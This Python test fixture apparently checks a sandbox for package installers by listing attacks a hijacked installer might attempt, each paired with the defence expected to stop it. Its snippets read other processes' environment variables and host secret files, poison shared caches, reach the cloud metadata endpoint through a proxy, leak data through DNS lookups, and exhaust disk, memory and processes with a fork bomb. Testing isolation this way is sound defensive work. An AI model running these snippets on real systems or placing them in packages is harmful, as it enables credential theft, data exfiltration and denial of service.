"""Through the installer itself: what it could do if it had been taken over."""

from tests.packages.qtest.environments.attempts.attempt import Program

REGISTRIES_ALONE = "the network is empty; the proxy knows the registries' addresses alone"
BY_PROXY = """
    proxy = urllib.parse.urlsplit(os.environ.get("http_proxy") or f"http://{FACTS['address']}")
    with socket.create_connection((proxy.hostname, proxy.port), 5) as connection:
        connection.sendall(b"@REQUEST@")
        answer = connection.recv(200).split(b"\\r\\n")[0]
    if b" 200" not in answer:
        raise OSError(answer)
"""

PROGRAMS = (
    Program("installer-environment", "read the worker's environment", "it learns a list of its own",
            "if 'MY_TOKEN' not in os.environ: raise OSError('not there')"),
    Program("installer-parents", "read the environment of other processes",
            "no process of the host is in its /proc", """
            seen = b""
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    seen += open(f"/proc/{pid}/environ", "rb").read()
                except OSError:
                    pass
            if b"MY_TOKEN=" not in seen: raise OSError('in none')
            """),
    Program("installer-secret", "read a file of the host", "there is no such path",
            "open(FACTS['secret']).read()"),
    Program("installer-home", "list the personal folder", "it is not there", """
            if not set(os.listdir(FACTS['home'])) & set(FACTS['home_names']):
                raise OSError('nothing of it is there')
            """),
    Program("installer-cache", "write into another environment of the cache",
            "it sees none but its own", "open(FACTS['neighbour'] + '/poison', 'w').write('x')"),
    Program("installer-outside", "write beside its folder", "everything else is read-only",
            "open(FACTS['beside'], 'w').write('x')"),
    Program("installer-registry-cache", "leave something in a shared cache of downloads",
            "there is none", "open(FACTS['downloads'] + '/poison', 'w').write('x')"),
    Program("installer-loopback", "connect to a service of the host", REGISTRIES_ALONE,
            "socket.create_connection(('127.0.0.1', FACTS['service']), 5)"),
    Program("installer-proxy-loopback", "the same by the proxy", REGISTRIES_ALONE,
            BY_PROXY.replace("@REQUEST@", "CONNECT @SERVICE@ HTTP/1.1\\r\\n\\r\\n")),
    Program("installer-proxy-get", "the same with a plain request", REGISTRIES_ALONE,
            BY_PROXY.replace("@REQUEST@", "GET http://@SERVICE@/ HTTP/1.1\\r\\nHost: @SERVICE@"
                                          "\\r\\n\\r\\n")),
    Program("installer-proxy-name", "the same under a name that leads there", REGISTRIES_ALONE,
            BY_PROXY.replace("@REQUEST@", "GET http://@NAMED@/ HTTP/1.1\\r\\nHost: @NAMED@"
                                          "\\r\\n\\r\\n")),
    Program("installer-proxy-host", "name the registry, and another host in the header",
            "the header is written anew", BY_PROXY.replace(
                "@REQUEST@", "GET http://@SERVICE@/ HTTP/1.1\\r\\nHost: @REGISTRY@\\r\\n\\r\\n")),
    Program("installer-metadata", "ask the cloud for the machine's identity", REGISTRIES_ALONE,
            BY_PROXY.replace("@REQUEST@", "GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: x"
                                          "\\r\\n\\r\\n"), harmful=True),
    Program("installer-abstract", "connect to an abstract socket of the host",
            "they belong to the network namespace", """
            socket.socket(socket.AF_UNIX).connect("\\0" + FACTS['abstract'])
            """),
    Program("installer-names", "send what it knows in a name to be looked up",
            "no name server can be asked", "socket.getaddrinfo(FACTS['marker'] + '.test', 80)",
            harmful=True),
    Program("installer-disk", "fill the disk", "what it leaves has a size", """
            for number in range(200):
                with open(f'file-{number}', 'wb') as file:
                    file.write(bytes(2**20))
                time.sleep(0.01)
            """, "disk_bytes"),
    Program("installer-memory", "use up memory", "memory is limited",
            "block = bytearray(900 * 2**20)", "memory_bytes"),
    Program("installer-processes", "fork without end", "processes are limited", """
            children = []
            for _ in range(100):
                child = os.fork()
                if not child:
                    time.sleep(1)
                    os._exit(0)
                children.append(child)
            for child in children:
                os.waitpid(child, 0)
            """, "processes"),
    Program("installer-time", "never end", "time is limited", "time.sleep(4)", "longer"),
    Program("installer-output", "say too much", "output is limited", """
            for _ in range(400):
                sys.stdout.write('x' * 10_000)
            """, "output_bytes"),
    Program("installer-link", "leave a link in the place of a folder that is looked into",
            "what it leaves is looked at", "os.symlink(FACTS['home'], 'node_modules')", "link"),
    Program("installer-pipe", "leave a pipe that whoever reads it waits for", "as above",
            "os.mkfifo('node_modules')", "file"),
)  # fmt: skip
